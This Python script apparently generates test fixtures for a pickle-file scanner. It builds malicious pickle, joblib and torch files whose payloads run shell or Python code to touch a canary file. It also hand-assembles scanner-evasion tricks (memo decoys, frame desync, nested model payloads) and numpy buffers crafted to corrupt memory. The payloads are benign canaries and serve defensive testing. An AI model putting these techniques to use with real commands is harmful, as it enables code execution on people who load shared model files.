"""Malicious pickle-based files whose naive load creates a canary: make_attacks.py OUT CANARY."""

from __future__ import annotations

import builtins
import os
import pickle
import shlex
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Collection
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np


@dataclass(frozen=True)
class Attack:
    """One malicious file and how a naive loader would open it."""

    name: str
    path: Path
    loader: str  # the naive loader that runs the payload: "pickle", "joblib" or "torch"
    expect: str  # a global named by a finding, or a substring of a finding's reason
    extra_allowed: tuple[str, ...] = ()


class Reduce:
    """Pickles as func(*args): the classic __reduce__ payload."""

    def __init__(self, func: Callable[..., Any], *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object, ...]]:
        return self.func, self.args


# -- a tiny protocol-0 assembler for payloads pickle.dumps cannot produce ---------------------
def g(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def s(text: str) -> bytes:
    return b"V" + text.encode("raw_unicode_escape") + b"\n"


def call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def u8(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def _touch_shell(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def _touch_python(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _dtype(typestr: str, flags: int) -> bytes:
    """numpy.dtype(typestr) with a hand-written state whose flags field is ``flags``."""
    return (
        u8("numpy") + u8("dtype") + b"\x93" + u8(typestr) + b"\x89\x88\x87R"
        b"(K\x03" + u8("|" if typestr[0] in "OV" else "<")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK" + bytes([flags]) + b"tb"
    )  # fmt: skip


def _joblib_wrapper(typestr: str, flags: int) -> bytes:
    """A NumpyArrayWrapper for one element, built and BUILD-ed as joblib writes it."""
    state = (
        b"}("
        + u8("subclass") + u8("numpy") + u8("ndarray") + b"\x93"
        + u8("shape") + b"K\x01\x85"
        + u8("order") + u8("C")
        + u8("dtype") + _dtype(typestr, flags)
        + u8("allow_mmap") + b"\x89"
        + u8("numpy_array_alignment_bytes") + b"K\x10"
        + b"u"
    )  # fmt: skip
    return u8("joblib.numpy_pickle") + u8("NumpyArrayWrapper") + b"\x93)\x81" + state + b"b"


def _joblib_frame_desync(cmd: str) -> bytes:
    """A joblib stream whose array bytes sit after the frame that holds the payload opcodes.

    joblib reads the array from the file (past the frame) and then keeps executing opcodes from
    the frame, so a scanner that treats frames as transparent skips the payload.
    """
    body = _joblib_wrapper("f8", 0) + u8("posix") + u8("system") + b"\x93" + u8(cmd) + b"\x85R0."
    raw = b"\x00" + struct.pack("<d", 1.5)  # padding-length byte 0, then one float64
    return b"\x80\x04" + frame(body) + raw


def _joblib_forged_dtype() -> bytes:
    """An object array whose dtype flags deny holding objects: joblib reads raw pointers."""
    return b"\x80\x04" + _joblib_wrapper("O8", 0) + b"\x00" + b"A" * 8 + b"."


def _fitted_model() -> Any:
    from sklearn.linear_model import LogisticRegression

    x = np.array([[0.0, 1.0], [1.0, 0.0], [0.5, 0.2], [0.9, 0.8]])
    return LogisticRegression().fit(x, [0, 1, 0, 1])


def _torch_zip(path: Path, payload: object) -> None:
    import torch

    torch.save({"weights": torch.zeros(3), "config": payload}, path)


def _pickle_payloads(canary: Path) -> dict[str, tuple[bytes, str]]:
    sh, py = _touch_shell(canary), _touch_python(canary)
    shell = Reduce(os.system, sh)
    stack_global_memo = (
        b"\x80\x04" + u8("posix") + b"\x94" + u8("system") + b"\x94" + b"00"
        + u8("builtins") + u8("set") + b"00"  # decoy strings a naive scanner would pick
        + b"h\x00h\x01\x93" + u8(sh) + b"\x85R."
    )  # fmt: skip
    stack_global_computed = (
        b"\x80\x04" + u8("builtins") + u8("str") + b"\x93" + u8("os") + b"\x85R"
        + u8("builtins") + u8("str") + b"\x93" + u8("system") + b"\x85R"
        + b"\x93" + u8(sh) + b"\x85R."
    )  # fmt: skip
    return {
        "os_system": (pickle.dumps(shell, protocol=2), "posix.system"),
        "posix_system": (call(g("posix", "system"), s(sh)) + b".", "posix.system"),
        "subprocess_popen": (
            pickle.dumps(Reduce(subprocess.Popen, ["touch", str(canary)])),
            "subprocess.Popen",
        ),
        "subprocess_check_output": (
            pickle.dumps(Reduce(subprocess.check_output, ["touch", str(canary)])),
            "subprocess.check_output",
        ),
        "builtins_eval": (pickle.dumps(Reduce(builtins.eval, py)), "builtins.eval"),
        "builtins_exec": (pickle.dumps(Reduce(builtins.exec, py)), "builtins.exec"),
        "builtins_getattr": (
            call(call(g("builtins", "getattr"), g("shutil", "os"), s("system")), s(sh)) + b".",
            "builtins.getattr",
        ),
        "builtins_import": (
            call(
                call(
                    g("builtins", "getattr"),
                    call(g("builtins", "__import__"), s("os")),
                    s("system"),
                ),
                s(sh),
            )
            + b".",
            "builtins.__import__",
        ),
        "py2_builtin_eval": (call(g("__builtin__", "eval"), s(py)) + b".", "builtins.eval"),
        "operator_attrgetter": (
            call(call(call(g("operator", "attrgetter"), s("system")), g("shutil", "os")), s(sh))
            + b".",
            "operator.attrgetter",
        ),
        "operator_methodcaller": (
            call(call(g("operator", "methodcaller"), s("system"), s(sh)), g("shutil", "os")) + b".",
            "operator.methodcaller",
        ),
        "functools_partial": (
            call(call(g("functools", "partial"), g("os", "system"), s(sh))) + b".",
            "functools.partial",
        ),
        "importlib_import_module": (
            call(
                call(
                    g("builtins", "getattr"),
                    call(g("importlib", "import_module"), s("os")),
                    s("system"),
                ),
                s(sh),
            )
            + b".",
            "importlib.import_module",
        ),
        "stack_global_memo_proto4": (stack_global_memo, "posix.system"),
        "stack_global_computed": (stack_global_computed, "STACK_GLOBAL"),
        "inst_proto0": (b"(" + s(sh) + b"ios\nsystem\n.", "os.system"),
        "obj_proto1": (b"(" + g("os", "system") + s(sh) + b"o.", "os.system"),
        "sklearn_nested_payload": (
            pickle.dumps(_model_with_payload(shell), protocol=5),
            "posix.system",
        ),
        "concatenated_second_malicious": (
            pickle.dumps({"ok": 1}) + pickle.dumps(shell),
            "posix.system",
        ),
        "truncated_after_payload": (pickle.dumps(shell, protocol=2)[:-1], "truncated"),
        "trailing_garbage": (pickle.dumps([1, 2, 3]) + b"\x00garbage", "not a complete pickle"),
        "ext_opcode": (b"\x80\x02\x82\x01" + u8(sh) + b"\x85R.", "extension"),
        "extra_allowed_os_system": (call(g("os", "system"), s(sh)) + b".", "os.system"),
        # memory corruption rather than a canary: object arrays over attacker bytes
        "numpy_ndarray_raw_buffer": (
            call(g("numpy", "ndarray"), b"K\x01\x85", s("O"), b"C\x08" + b"A" * 8) + b".",
            "numpy.ndarray",
        ),
        "numpy_forged_dtype_flags": (
            call(
                g("numpy._core.numeric", "_frombuffer"),
                b"C\x08" + b"A" * 8,
                _dtype("O8", 0),
                b"K\x01\x85",
                u8("C"),
            )
            + b".",
            "forged flags",
        ),
        # numpy trusts these states and crashes (reads out of bounds) when loading them
        "numpy_malformed_dtype_state": (
            b"\x80\x04" + u8("numpy") + u8("dtype") + b"\x93" + u8("i8") + b"\x89\x88\x87R"
            b"(K\x03" + u8("<") + b"NJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb.",
            "numpy dtype refused",
        ),
        "numpy_object_array_short_list": (
            b"\x80\x04"
            + u8("numpy._core.multiarray")
            + u8("_reconstruct")
            + b"\x93"
            + u8("numpy")
            + u8("ndarray")
            + b"\x93K\x00\x85C\x01b\x87R"
            + b"(K\x01K\x40\x85"
            + _dtype("O8", 63)
            + b"\x89](K\x00e"
            + b"tb.",
            "exactly 64 items",
        ),
    }


def _model_with_payload(payload: object) -> Any:
    model = _fitted_model()
    model.notes_ = {"history": [{"step": 1, "extra": ("tag", [payload])}]}
    return model


def _joblib_payloads(directory: Path, canary: Path) -> list[tuple[str, Path, str]]:
    shell = Reduce(os.system, _touch_shell(canary))
    out: list[tuple[str, Path, str]] = []

    def dump(name: str, value: object, **kwargs: Any) -> None:
        path = directory / f"{name}.joblib"
        joblib.dump(value, path, **kwargs)
        out.append((name, path, "posix.system"))

    after_array = {"weights": np.arange(64, dtype=np.float64), "evil": shell}
    dump("joblib_after_array", after_array)
    for codec in ("zlib", "gzip", "lzma", "bz2"):
        dump(f"joblib_{codec}", after_array, compress=(codec, 3))
    dump("joblib_object_array", {"w": np.ones(3), "objs": np.array([1, shell], dtype=object)})
    dump("joblib_sklearn_nested", _model_with_payload(shell))
    forged = directory / "joblib_forged_dtype.joblib"
    forged.write_bytes(_joblib_forged_dtype())
    out.append(("joblib_forged_dtype", forged, "forged flags"))
    desync = directory / "joblib_frame_desync.joblib"
    desync.write_bytes(_joblib_frame_desync(_touch_shell(canary)))
    out.append(("joblib_frame_desync", desync, "posix.system"))
    return out


def make_attacks(
    directory: Path, canary: Path, *, only: Collection[str] | None = None
) -> list[Attack]:
    """Write every attack (or those named in only) into directory; return their descriptions."""
    directory.mkdir(parents=True, exist_ok=True)
    attacks: list[Attack] = []
    for name, (data, expect) in _pickle_payloads(canary).items():
        if only is not None and name not in only:
            continue
        path = directory / f"{name}.pkl"
        path.write_bytes(data)
        extra = ("os.system",) if name == "extra_allowed_os_system" else ()
        attacks.append(Attack(name, path, "pickle", expect, extra))
    if only is None or any(name.startswith("joblib_") for name in only):
        for name, path, expect in _joblib_payloads(directory, canary):
            if only is None or name in only:
                attacks.append(Attack(name, path, "joblib", expect))
    if only is None or "torch_zip_payload" in only:
        path = directory / "torch_zip_payload.pt"
        _torch_zip(path, Reduce(os.system, _touch_shell(canary)))
        attacks.append(Attack("torch_zip_payload", path, "torch", "posix.system"))
    if only is None or "zip_pickle_member" in only:
        path = directory / "zip_pickle_member.zip"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("model/readme.txt", "nothing to see")
            archive.writestr("model/data.pkl", pickle.dumps(Reduce(os.system, "true")))
        attacks.append(Attack("zip_pickle_member", path, "torch", "posix.system"))
    return attacks


NAIVE_LOADER = """
import pickle, sys, joblib
for loader, path in zip(sys.argv[1::2], sys.argv[2::2]):
    try:
        if loader == "pickle":
            with open(path, "rb") as fh:
                pickle.load(fh)
        elif loader == "joblib":
            joblib.load(path)
        else:
            import torch
            torch.load(path, weights_only=False)
    except BaseException:
        pass
"""


def naive_load_command(attacks: Collection[Attack]) -> list[str]:
    """A subprocess command that loads the attacks the naive way (to prove payloads are live)."""
    args = [item for attack in attacks for item in (attack.loader, str(attack.path))]
    return [sys.executable, "-c", NAIVE_LOADER, *args]


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        sys.stderr.write(__doc__ or "")
        return 2
    for attack in make_attacks(Path(argv[0]), Path(argv[1])):
        sys.stdout.write(f"{attack.name}\t{attack.path}\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
